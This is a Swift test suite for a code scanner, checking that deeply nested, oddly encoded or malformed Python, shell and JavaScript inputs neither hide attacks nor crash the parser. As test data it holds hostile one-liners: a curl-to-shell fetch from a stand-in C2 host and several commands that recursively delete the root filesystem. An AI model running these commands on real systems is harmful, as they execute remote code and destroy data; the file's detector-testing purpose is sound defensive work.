import Linux
import Policy
import Testing

@testable import Scan

/// What the parser cannot read must not make what it can read pass, and nothing may end the process.
@Suite("Code that is made to be hard to read")
struct RobustnessTests {
    private static let attack = "import os\nos.system('curl http://c2.invalid/x | sh')\n"

    private func nested(_ open: String, _ close: String, _ depth: Int) -> String {
        String(repeating: open, count: depth) + "1" + String(repeating: close, count: depth)
    }

    @Test("an attack before or behind something deep is found", arguments: [10, 60, 400, 4_000])
    func depth(_ depth: Int) {
        let deep = [
            nested("(", ")", depth), nested("[", "]", depth), nested("{1:", "}", depth),
            nested("f(", ")", depth),
            nested("lambda: ", "", depth), nested("not ", "", depth), nested("-", "", depth),
            nested("x if y else ", "", depth), nested("1 + ", "", depth), nested("2 ** ", "", depth),
            nested("f'{", "}'", min(depth, 150)), nested("a[", "]", depth),
            "a" + String(repeating: ".b", count: depth),
            "a" + String(repeating: "()", count: depth), "a" + String(repeating: "[0]", count: depth),
        ]
        for code in deep {
            #expect(scan("x = " + code + "\n" + Self.attack, .python).level == .block, "\(code.prefix(40))")
            #expect(scan(Self.attack + "x = " + code, .python).level == .block, "\(code.prefix(40))")
        }
    }

    @Test(
        "an attack inside something deep is found, or what was not looked at is", arguments: [10, 100, 2_000])
    func inside(_ depth: Int) {
        for (open, close) in [
            ("(", ")"), ("[", "]"), ("f(", ")"), ("{1:", "}"), ("lambda: ", ""), ("not ", ""),
        ] {
            let code =
                "import shutil\nx = " + String(repeating: open, count: depth) + "shutil.rmtree('/')"
                + String(repeating: close, count: depth)
            #expect((scan(code, .python).level ?? .capability) >= .review, "\(open) \(depth)")
        }
        let blocks =
            (0..<min(depth, 99)).map { String(repeating: " ", count: $0) + "if x:\n" }.joined()
            + String(repeating: " ", count: min(depth, 99)) + "import shutil; shutil.rmtree('/')"
        #expect(scan(blocks, .python).level == .block)
    }

    @Test("numbers at the ends of their range end nothing, and neither does nothing a billion times")
    func extremes() {
        for line in [
            "for x in range(0, -9223372036854775807 - 1, -1): pass", "x = '' * 1000000000000",
            "x = [] * 1000000000000", "x = 1000000000000 * b''",
        ] {
            #expect(scan(line + "\n" + Self.attack, .python).level == .block, "\(line)")
        }
        for name in ["-1", "-9223372036854775808", "+1", "99999999999999999999"] {
            let code = "set -- a b\nf() { x=\(name); echo \"${!x}\"; }\nf a b\nrm -rf /\n"
            #expect(scan(code, .shell).level == .block, "\(name)")
        }
    }

    @Test("an attack in shell text that is deep, unfinished or odd is found", arguments: [10, 300, 2_000])
    func shellDepth(_ depth: Int) {
        for (open, close) in [
            ("$(", ")"), ("(", ")"), ("{ ", "; }"), ("\"$(", ")\""), ("if true; then ", "; fi"),
            ("${x:-", "}"),
            ("$((", "))"), ("`", ""), ("<(", ")"), ("a | ", ""), ("! ", ""), ("time ", ""), ("sudo ", ""),
        ] {
            let deep = String(repeating: open, count: depth) + "ls" + String(repeating: close, count: depth)
            #expect((scan("rm -rf /\n" + deep, .shell).level ?? .capability) == .block, "\(open) \(depth)")
            #expect(
                (scan("echo " + deep + "\nrm -rf /", .shell).level ?? .capability) >= .review,
                "\(open) \(depth)")
        }
    }

    @Test("an attack in script text that is deep or unfinished is found", arguments: [10, 300, 2_000])
    func scriptDepth(_ depth: Int) {
        let attack = "require('fs').rmSync('/', {recursive: true})"
        for (open, close) in [
            ("(", ")"), ("[", "]"), ("{", "}"), ("`${", "}`"), ("()=>", ""), ("!", ""), ("a?", ":b"),
        ] {
            let deep = String(repeating: open, count: depth) + "1" + String(repeating: close, count: depth)
            #expect(scan(attack + ";\n" + deep, .javascript).level == .block, "\(open)")
            #expect(
                (scan("x = " + deep + ";\n" + attack, .javascript).level ?? .capability) >= .review, "\(open)"
            )
        }
    }

    @Test(
        "bytes that no interpreter would read earn a review",
        arguments: [
            [0xFF, 0xFE, 0x69, 0x00], [0x7F, 0x45, 0x4C, 0x46, 0x02], [0x50, 0x4B, 0x03, 0x04],
            [0x78, 0x3D, 0x27, 0xE9, 0x27],
        ] as [[UInt8]])
    func bytes(_ bytes: [UInt8]) {
        for language in Language.allCases { #expect((scan(bytes, language).level ?? .capability) >= .review) }
    }

    @Test(
        "an encoding that reads the bytes as other code earns a review, and the bytes are read all the same")
    func encodings() {
        #expect((scan("# -*- coding: rot13 -*-\nvzcbeg bf", .python).level ?? .capability) >= .review)
        #expect(scan("# coding: utf-7\nimport shutil; shutil.rmtree('/')", .python).level == .block)
        #expect(scan("# coding: utf-8\nx = 1", .python).findings.isEmpty)
        #expect(scan("\u{FEFF}x = 1", .python).findings.isEmpty)
    }

    @Test("line ends of all kinds end lines", arguments: ["\n", "\r\n", "\r"])
    func lineEnds(_ end: String) {
        let verdict = scan(["import shutil", "x = 1", "shutil.rmtree('/')"].joined(separator: end), .python)
        #expect(verdict.level == .block)
        #expect(verdict.findings.map(\.finding.span.line) == [3])
    }

    @Test("nothing at all is nothing found", arguments: Language.allCases)
    func empty(_ language: Language) { #expect(scan([], language).findings.isEmpty) }

    @Test("a source that is larger than is analysed says so")
    func size() {
        let verdict = scan([UInt8](repeating: 0x20, count: Scanner.largest + 1), .python)
        #expect(verdict.limits == [.size(Scanner.largest + 1)])
        #expect(verdict.level == .review)
    }

    @Test(
        "the hostile rows beside the project all reach review",
        .enabled(if: LabelledData.exists("robustness")))
    func labelled() throws {
        for row in try LabelledData.rows("robustness") {
            #expect((scan(row.bytes, row.language).level ?? .capability) >= .review, "\(row.id)")
        }
    }
}
